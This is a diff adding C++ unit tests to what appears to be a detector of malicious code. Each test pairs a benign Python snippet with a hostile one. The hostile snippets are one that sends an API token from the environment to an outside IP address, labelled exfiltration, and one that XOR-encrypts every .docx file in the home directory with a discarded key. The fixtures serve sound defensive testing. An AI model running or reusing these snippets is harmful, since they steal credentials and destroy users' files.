@@ -515,5 +515,58 @@ TEST(NinetiethRoundClasses, ASelfHostedProductsKeyGoesToItsApiPath) {
   for (const auto& c : cases) check(c);
 }
 
+// urlopen(Request(url, headers={"Authorization": key})): the reply carries
+// what the URL and body sent, not the key the request authenticated with.
+TEST(NinetiethRoundClasses, AReplyToARequestObjectDoesNotCarryItsAuthentication) {
+  const Case cases[] = {
+      {"rooms fetched with a token, relayed to an LED board on the LAN", L,
+       "import json, os, socket\n"
+       "from urllib.request import Request, urlopen\n"
+       "req = Request('https://pms.internal/api/v2/rooms', headers={'Authorization': 'Bearer ' + os.environ['PMS_API_TOKEN']})\n"
+       "with urlopen(req, timeout=20) as resp:\n"
+       "    rooms = json.load(resp)\n"
+       "s = socket.create_connection(('10.20.5.17', 7010), timeout=10)\n"
+       "s.sendall(json.dumps(rooms).encode())\n"},
+      {"the token itself relayed", B,
+       "import json, os, socket\n"
+       "token = os.environ['PMS_API_TOKEN']\n"
+       "s = socket.create_connection(('203.0.113.17', 7010), timeout=10)\n"
+       "s.sendall(json.dumps({'t': token}).encode())\n",
+       "EXFILTRATION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// XOR with 0 is no cipher: a serial frame's LRC (v = 0; v ^= b for each
+// byte of queued jobs) written to the device, the jobs then moved to done/.
+TEST(NinetiethRoundClasses, AnXorChecksumIsNotACipher) {
+  const Case cases[] = {
+      {"jobs framed with an LRC and written to a serial port", L,
+       "import json, os\n"
+       "from pathlib import Path\n"
+       "def lrc(data):\n"
+       "    v = 0\n"
+       "    for b in data:\n"
+       "        v ^= b\n"
+       "    return bytes([v])\n"
+       "fd = os.open('/dev/ttyUSB0', os.O_RDWR | os.O_NOCTTY)\n"
+       "queue = Path('queue')\n"
+       "(queue / 'done').mkdir(exist_ok=True)\n"
+       "for job_file in sorted(queue.glob('*.json')):\n"
+       "    body = json.dumps(json.loads(job_file.read_text())).encode()\n"
+       "    os.write(fd, b'\\x02' + body + b'\\x03' + lrc(body))\n"
+       "    job_file.rename(queue / 'done' / job_file.name)\n"},
+      {"files XORed with a key and written back", B,
+       "import os\n"
+       "from pathlib import Path\n"
+       "KEY = os.urandom(32)\n"
+       "for p in Path.home().rglob('*.docx'):\n"
+       "    data = p.read_bytes()\n"
+       "    p.write_bytes(bytes(b ^ KEY[i % 32] for i, b in enumerate(data)))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
